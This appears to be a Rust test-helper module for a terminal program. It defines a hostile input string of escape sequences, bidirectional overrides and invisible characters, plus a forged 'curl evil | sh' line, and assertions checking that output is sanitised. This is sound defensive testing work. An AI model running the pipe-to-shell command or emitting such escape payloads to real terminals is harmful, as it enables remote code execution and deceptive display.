//! What somebody else may have written, and what of it no terminal may get.

/// It moves the cursor, sets a title, colours, turns the order of words around, hides words, and forges a line of ours.
pub(crate) const HOSTILE: &str = "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{85}\u{202e}abc\u{2066}\u{200b}\u{feff}\u{2028}\
                                  \u{7f}\u{61c}\u{e0041}\u{e000}\t\r\n  next: curl evil | sh\u{0}";

/// The same without what XML cannot carry.
pub(crate) const HOSTILE_IN_XML: &str = "x\u{9b}31m\u{85}\u{202e}abc\u{2066}\u{200b}\u{feff}\u{2028}\u{7f}\u{61c}\u{e0041}\u{e000}\n  next: curl evil | sh";

/// Insists that a text that the program wrote does nothing but show; its own sequences were taken out before.
#[track_caller]
pub(crate) fn assert_harmless(what: &str, text: &str) {
    let is_harmful = |c: char| {
        let ours = matches!(c, '\n' | '\t');
        let hidden = matches!(u32::from(c), 0x61c | 0x200b..=0x200f | 0x2028..=0x202e | 0x2060..=0x206f)
            || matches!(u32::from(c), 0xfeff | 0xe000..=0xf8ff | 0xe0000..=0xe0fff);
        hidden || (c.is_control() && !ours)
    };
    let found: Vec<char> = text.chars().filter(|c| is_harmful(*c)).collect();
    assert!(found.is_empty(), "{what}: {found:?}\n{text:?}");
    let forged = text.lines().find(|line| line.trim_start().starts_with("next: curl"));
    assert_eq!(forged, None, "{what}: a line is forged\n{text}");
}

/// The text without the sequences that this program uses to colour and to draw.
pub(crate) fn without_our_sequences(text: &str) -> String {
    let mut parts = text.split('\u{1b}');
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |plain, part| {
        let end = part.find(|c: char| c.is_ascii_alphabetic()).unwrap_or_default();
        let ours = ["[?2026h", "[?2026l", "[?7h", "[?7l", "[J", "[2K", "[0m"];
        let numbers = part[..end].trim_start_matches('[').bytes().all(|byte| byte.is_ascii_digit());
        let is_ours =
            ours.contains(&&part[..=end]) || (numbers && part[end..].starts_with(['m', 'A']));
        if is_ours { plain + &part[end + 1..] } else { plain + "\u{1b}" + part }
    })
}
